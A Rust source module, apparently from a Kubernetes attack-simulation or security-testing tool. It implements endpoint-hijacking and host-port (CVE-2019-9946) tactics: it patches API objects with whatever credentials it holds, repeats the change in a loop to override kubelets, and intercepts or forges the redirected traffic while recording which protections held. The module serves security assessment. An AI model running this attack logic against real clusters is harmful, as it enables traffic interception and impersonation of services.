//! The attacker changes the objects that say where connections lead, so that they are led to it.

use super::Tactic;
use super::spend::{self, Shown, for_ask, request};
use super::terminate::{Terminate, Then};
use crate::field::{Field, Probe};
use crate::forge::Issuer;
use crate::holdings::Held;
use crate::intercept::Interception;
use crate::notes::Notes;
use crate::speak::Answer;
use crate::target::{Ask, Claim, ServerKind, Speaks, Target};
use async_trait::async_trait;
use ravelin_oracle::{Attempt, Property, Protection};
use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

/// How long controllers and service proxies get to notice a change.
const NOTICE: Duration = Duration::from_secs(1);
/// How often the attacker repeats its change.
const AGAIN: Duration = Duration::from_millis(20);

/// Claiming a server's address.
pub struct ClaimAddress;

/// Claiming a service's address with a pod's host port (CVE-2019-9946).
pub struct HostPort;

/// A claim that was made, and with what.
type Made<'a> = (&'a Claim, Option<Held>);

#[async_trait(?Send)]
impl Tactic for ClaimAddress {
    fn name(&self) -> &'static str {
        "claim-the-address"
    }

    async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
        let notes = Notes::new(field);
        lead_here(&notes, target, (&target.claims, probe)).await;
        notes.finish()
    }
}

#[async_trait(?Send)]
impl Tactic for HostPort {
    fn name(&self) -> &'static str {
        "host-port-on-the-service"
    }

    async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
        let notes = Notes::new(field);
        let led = lead_here(&notes, target, (&target.host_ports, probe)).await;
        if led == Some(0) {
            let text = "the connection to the service did not come to the pod with its port";
            notes.refused("the client > the service", Protection::ServiceOrder, text, aims(target));
        }
        notes.finish()
    }
}

/// Makes the claims, serves whoever comes while the path is used once, and puts everything back.
/// Gives how many connections came; nothing where no claim could be made.
async fn lead_here(
    notes: &Notes<'_>,
    target: &Target,
    (claims, probe): (&[Claim], Probe<'_>),
) -> Option<usize> {
    let field = notes.field();
    let here = field.holdings().address()?;
    let mut led = Vec::new();
    for claim in claims {
        if let Some(with) = make(notes, target, (claim, here)).await {
            led.push((claim, with));
        }
    }
    if led.is_empty() {
        probe.await;
        return None;
    }
    tokio::time::sleep(NOTICE).await;
    // Kubelets put right what others wrote into their nodes' status (every 10 s by default): who
    // wants the next connection claims once more (NCC-E003660-JAV did so in a loop).
    claim_all(notes, target, (&led, here)).await;
    let interception = Interception::await_at(notes, &genuine(target)).await;
    let impostor = taking_over(field, target);
    tokio::select! {
        biased;
        () = impostor.serve_during(notes, target, (&interception, probe)) => {}
        () = insist(notes, target, (&led, here)) => {}
    }
    let came = interception.taken();
    drop(interception);
    for (claim, with) in led {
        for undo in &claim.undo {
            // What cannot be put back shows in the uses that follow.
            let _ = change(notes, target, (undo, with.as_ref())).await;
        }
    }
    tokio::time::sleep(NOTICE).await;
    spend::spend(notes, target).await;
    Some(came)
}

/// Whose objects these are puts them right again and again; so the attacker changes them again and
/// again.
async fn insist(notes: &Notes<'_>, target: &Target, (led, here): (&[Made<'_>], IpAddr)) {
    loop {
        tokio::time::sleep(AGAIN).await;
        claim_all(notes, target, (led, here)).await;
    }
}

/// Once more, as far as it is changes: what was created is there.
async fn claim_all(notes: &Notes<'_>, target: &Target, (led, here): (&[Made<'_>], IpAddr)) {
    for (claim, with) in led {
        for ask in claim.leading_to(here).filter(|ask| ask.method == "PATCH") {
            // Where it fails once, it may succeed the next time.
            let _ = change(notes, target, (&ask, with.as_ref())).await;
        }
    }
}

/// For each port of the path, a genuine server.
fn genuine(target: &Target) -> BTreeMap<u16, SocketAddr> {
    target.servers.iter().rev().map(|server| (server.port(), *server)).collect()
}

/// What the attacker does with whoever was led to it: pass on what it can, answer the rest itself.
fn taking_over(field: &Field, target: &Target) -> Terminate {
    let own = if field.holdings().serving.is_some() { Issuer::Genuine } else { Issuer::OwnAuthority };
    let issuer = (target.speaks == Speaks::Https).then_some(own);
    let then = if target.server == ServerKind::Workload { Then::Relay } else { Then::Forge };
    Terminate::new(issuer, then)
}

/// Makes the change, without a credential or with one that the attacker holds: gives which.
async fn make(notes: &Notes<'_>, target: &Target, (claim, here): (&Claim, IpAddr)) -> Option<Option<Held>> {
    let flow = notes.field().flow(target.apiserver);
    let credentials = notes.field().credentials();
    'credentials: for held in std::iter::once(None).chain(credentials.into_iter().map(Some)) {
        let with = held.as_ref().map_or("no credential", |held| held.what.as_str());
        for ask in claim.leading_to(here) {
            match change(notes, target, (&ask, held.as_ref())).await {
                Some(answer) if answer.granted() => {}
                Some(answer) => {
                    notes.tell(format!("{flow}: wanted to change {} with {with}", claim.what));
                    notes.refused_by_answer(&flow, &answer, aims(target));
                    continue 'credentials;
                }
                None => {
                    notes.tell(format!("{flow}: no answer"));
                    continue 'credentials;
                }
            }
        }
        notes.tell(format!("{flow}: changed {} with {with}", claim.what));
        return Some(held);
    }
    None
}

async fn change(notes: &Notes<'_>, target: &Target, (wanted, held): (&Ask, Option<&Held>)) -> Option<Answer> {
    let shown = held.map_or_else(Shown::default, |held| Shown::of(&held.secret));
    let asked = (for_ask(wanted, target.apiserver), shown);
    request(notes, target.apiserver, Speaks::Https, asked).await.ok()
}

/// What is lost where connections can be led to the attacker. To a server that is proved who asks
/// by a key nothing can be passed on.
fn aims(target: &Target) -> &'static [Property] {
    match target.server {
        ServerKind::Workload => &[
            Property::RequestSecret,
            Property::ResponseSecret,
            Property::ResponseAuthentic,
            Property::RequestAuthentic,
        ],
        _ => &[Property::RequestSecret, Property::ResponseAuthentic],
    }
}
